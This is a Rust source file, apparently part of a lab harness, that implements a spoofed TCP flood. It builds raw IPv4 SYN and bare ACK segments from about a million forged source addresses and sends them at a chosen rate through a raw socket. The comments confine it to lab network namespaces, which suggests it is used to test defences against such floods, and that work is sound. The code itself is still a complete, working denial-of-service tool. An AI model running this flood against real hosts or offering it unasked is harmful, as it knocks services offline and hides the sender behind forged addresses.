//! A spoofed TCP flood, as an attacker on the clients' side sends it: SYN
//! and bare ACK segments from many forged sources, paced to a rate, through
//! a raw socket of the namespace it runs in.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use etherparse::PacketBuilder;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// The forged sources: 100.64.0.0/10 (shared address space), which no lab
/// namespace holds or routes, so answers to them go nowhere.
const SPOOFED: u32 = 0x6440_0000;
/// How many distinct forged sources the flood cycles through.
pub const SOURCES: u32 = 1 << 20;

/// What a flood sent.
#[derive(Clone, Copy, Debug, Default)]
pub struct Sent {
    pub syns: u64,
    pub acks: u64,
}

/// Floods `dst` for `dur` at `rate` segments per second, alternating SYN
/// and bare ACK, each from its own forged source; returns what went out.
/// Runs in the calling thread's network namespace.
pub fn spoofed_tcp(dst: SocketAddrV4, rate: u64, dur: Duration) -> Result<Sent> {
    // IPPROTO_RAW: the packets carry their own IPv4 header.
    let sock = Socket::new(
        Domain::IPV4,
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )
    .context("raw socket")?;
    let to = SockAddr::from(SocketAddrV4::new(*dst.ip(), 0));
    let mut sent = Sent::default();
    let start = Instant::now();
    let mut i: u64 = 0;
    let mut buf = Vec::with_capacity(64);
    while start.elapsed() < dur {
        let due = (start.elapsed().as_secs_f64() * rate as f64) as u64;
        while i < due {
            let n = (i % SOURCES as u64) as u32;
            let src = Ipv4Addr::from(SPOOFED + n);
            let syn = i.is_multiple_of(2);
            let b = PacketBuilder::ipv4(src.octets(), dst.ip().octets(), 64).tcp(
                1024 + (n % 60_000) as u16,
                dst.port(),
                n.wrapping_mul(2_654_435_761),
                64_240,
            );
            let b = if syn { b.syn() } else { b.ack(n ^ 0x5555_5555) };
            buf.clear();
            b.write(&mut buf, &[]).context("building a segment")?;
            // A full socket buffer drops the segment: a flood does not retry.
            if sock.send_to(&buf, &to).is_ok() {
                if syn {
                    sent.syns += 1;
                } else {
                    sent.acks += 1;
                }
            }
            i += 1;
        }
        thread::sleep(Duration::from_millis(2));
    }
    Ok(sent)
}
